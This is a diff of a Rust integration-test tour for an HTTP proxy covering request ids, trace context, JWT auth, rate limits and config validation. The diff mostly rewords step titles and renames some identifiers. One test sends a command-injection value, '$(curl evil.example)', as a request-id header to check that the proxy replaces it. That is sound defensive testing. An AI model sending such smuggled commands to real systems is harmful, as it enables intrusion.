@@ -4,7 +4,7 @@ use super::check::{Expect, Is, Place};
 use super::{Action, Step};
 use crate::proxy::filters::{ISSUER, TELEMETRY};
 use crate::services::{ORDER, USER};
-use Expect::{Body, Counted, Header, Reached, Refused, Status};
+use Expect::{Body, Counted, Header, Reached, Rejected, Status};
 use Place::{At, Response};
 use serde_json::json;
 use tollgate_host_test::Request;
@@ -26,7 +26,7 @@ fn step<const N: usize>(title: &'static str, request: Request, expect: [Expect; 
     Step { title, action: Action::Send(request), expect: expect.into() }
 }
 
-/// As `curl` would send it.
+/// Returns a GET request, as `curl` would send it.
 fn get(path: &str) -> Request {
     Request::get(path).authority("shop.example").header("user-agent", "tour/1")
 }
@@ -35,7 +35,7 @@ fn request_id() -> Vec<Step> {
     const ID: &str = "x-request-id";
     vec![
         step(
-            "A request without an id gets one, and a trace",
+            "A request without an id gets an id and a trace",
             get("/users/1"),
             [
                 Status(200),
@@ -48,7 +48,7 @@ fn request_id() -> Vec<Step> {
             ],
         ),
         step(
-            "The id that a client chose is kept, and echoed",
+            "A valid id of the client is kept and returned in the response",
             get("/users/2").header(ID, "checkout-2024:0042"),
             [
                 Status(200),
@@ -58,7 +58,7 @@ fn request_id() -> Vec<Step> {
             ],
         ),
         step(
-            "An id that is not fit for a log line is replaced",
+            "An id that is not safe to log is replaced",
             get("/users/3").header(ID, "$(curl evil.example)"),
             [
                 Status(200),
@@ -75,7 +75,7 @@ fn trace_context() -> Vec<Step> {
     const PARENT: &str = "traceparent";
     vec![
         step(
-            "A trace that a client began goes on",
+            "A trace that the client started is continued",
             get("/users/1").header(PARENT, format!("00-{TRACE}-{SPAN}-01")).header("tracestate", "shop=1"),
             [
                 Status(200),
@@ -85,7 +85,7 @@ fn trace_context() -> Vec<Step> {
             ],
         ),
         step(
-            "A malformed trace is not passed on: a new one begins",
+            "An invalid trace context is replaced by a new trace",
             get("/users/1")
                 .header(PARENT, format!("00-{TRACE}-0000000000000000-01"))
                 .header("tracestate", "shop=1"),
@@ -98,7 +98,7 @@ fn trace_context() -> Vec<Step> {
             ],
         ),
         step(
-            "Two hops, one trace: order-service asks user-service through the proxy",
+            "Two hops form one trace: order-service calls user-service through the proxy",
             get("/orders/7"),
             [
                 Status(200),
@@ -116,7 +116,7 @@ fn trace_context() -> Vec<Step> {
 fn headers() -> Vec<Step> {
     vec![
         step(
-            "Headers are set and removed, on the way in and on the way out",
+            "Headers of requests and responses are set and removed",
             get("/users").header("x-debug", "1"),
             [
                 Status(200),
@@ -127,7 +127,7 @@ fn headers() -> Vec<Step> {
             ],
         ),
         step(
-            "Browsers see what the service took: it needs 25 ms for a report",
+            "Browsers see how long the service took: a report takes 25 ms",
             get("/users/report"),
             [Status(200), Header(Response, "server-timing", Is::Timing("upstream", 25))],
         ),
@@ -137,19 +137,19 @@ fn headers() -> Vec<Step> {
 fn hello() -> Vec<Step> {
     vec![
         step(
-            "The example of a filter keeps strangers out",
+            "The example filter rejects a request without a team",
             get("/staff/1"),
             [Status(403), Body("not_allowed"), Reached(&[])],
         ),
         step(
-            "... and lets in who may come in",
+            "... and allows a request of an allowed team",
             get("/staff/1").header("x-team", "support"),
             [Status(200), Reached(&[USER])],
         ),
     ]
 }
 
-/// With a token of the demo's issuer. Its key is known to everybody.
+/// Adds a token of the demo's issuer, whose private key is public.
 fn with_token(request: Request, sub: &str, expires: u64) -> Request {
     let claims = json!({ "iss": ISSUER, "sub": sub, "exp": expires, "scope": "account:read" });
     request.header("authorization", format!("Bearer {}", Signer::es256().token(&claims)))
@@ -163,7 +163,7 @@ fn tokens() -> Vec<Step> {
     let future = 4_000_000_000;
     vec![
         step(
-            "Without a token there is no way to an account",
+            "A request for an account without a token is rejected",
             get("/account/1"),
             [
                 Status(401),
@@ -174,7 +174,7 @@ fn tokens() -> Vec<Step> {
             ],
         ),
         step(
-            "With one there is; the service learns whose it is, and not from the client",
+            "A valid token is accepted, and `x-user` is set from its claim, not by the client",
             with_token(get("/account/1").header("x-user", "root"), "alice", future),
             [
                 Status(200),
@@ -185,7 +185,7 @@ fn tokens() -> Vec<Step> {
             ],
         ),
         step(
-            "An old one is refused, and says so",
+            "An expired token is rejected, and the response gives the reason",
             with_token(get("/account/1"), "alice", 1_700_000_000),
             [
                 Status(401),
@@ -195,7 +195,7 @@ fn tokens() -> Vec<Step> {
             ],
         ),
         step(
-            "To delete the account, another scope is needed",
+            "Deleting the account needs another scope",
             with_token(Request::new("DELETE", "/account/1").authority("shop.example"), "alice", future),
             [Status(403), Header(Response, CHALLENGE, Is::Text(LACKS_SCOPE)), Reached(&[])],
         ),
@@ -204,46 +204,46 @@ fn tokens() -> Vec<Step> {
 
 fn limits() -> Vec<Step> {
     const POLICY: &str = "ratelimit-policy";
-    const STANDING: &str = "ratelimit";
+    const REMAINING: &str = "ratelimit";
     const CUSTOMER: &str = "x-customer";
     let tickets = |customer: &str| get("/tickets/1").header(CUSTOMER, customer);
     vec![
         step(
-            "Two tickets a minute: the first, and the client is told what is left",
+            "Two tickets per minute: the first is allowed, and the response shows the remaining quota",
             tickets("alice"),
             [
                 Status(200),
                 Reached(&[USER]),
                 Header(Response, POLICY, Is::Text(r#""per-customer";q=2;w=60"#)),
-                Header(Response, STANDING, Is::Holding(r#""per-customer";r=1;t="#)),
+                Header(Response, REMAINING, Is::Containing(r#""per-customer";r=1;t="#)),
                 Counted("limit.per-customer.ok", 1),
             ],
         ),
         step(
-            "... the second",
+            "... the second is allowed",
             tickets("alice"),
-            [Status(200), Reached(&[USER]), Header(Response, STANDING, Is::Holding(";r=0;t="))],
+            [Status(200), Reached(&[USER]), Header(Response, REMAINING, Is::Containing(";r=0;t="))],
         ),
         step(
-            "The third is refused, and says when to come again",
+            "The third is rejected, and `retry-after` says when to retry",
             tickets("alice"),
             [
                 Status(429),
                 Body("quota-exceeded"),
                 Reached(&[]),
                 Header(Response, "retry-after", Is::Number(1, 30)),
-                Header(Response, STANDING, Is::Holding(";r=0;t=")),
+                Header(Response, REMAINING, Is::Containing(";r=0;t=")),
                 Counted("limit.per-customer.rate_limited", 1),
                 Counted("denied.local_rate_limited", 1),
             ],
         ),
         step(
-            "Another customer has a bucket of their own",
+            "Another customer has a separate bucket",
             tickets("bob"),
-            [Status(200), Reached(&[USER]), Header(Response, STANDING, Is::Holding(";r=1;t="))],
+            [Status(200), Reached(&[USER]), Header(Response, REMAINING, Is::Containing(";r=1;t="))],
         ),
         step(
-            "A limit in shadow mode refuses nobody: it counts, and tells the service",
+            "A limit in shadow mode rejects no request: it only counts, and adds a header for the service",
             get("/tickets/2"),
             [
                 Status(200),
@@ -257,8 +257,8 @@ fn limits() -> Vec<Step> {
 
 fn configuration() -> Vec<Step> {
     vec![Step {
-        title: "A configuration with a misspelt field is refused before it does harm",
+        title: "A configuration with a misspelt field is rejected when it is loaded",
         action: Action::Validate(TELEMETRY, json!({ "reqest_id": {} })),
-        expect: vec![Refused(&["reqest_id", "request_id"])],
+        expect: vec![Rejected(&["reqest_id", "request_id"])],
     }]
 }
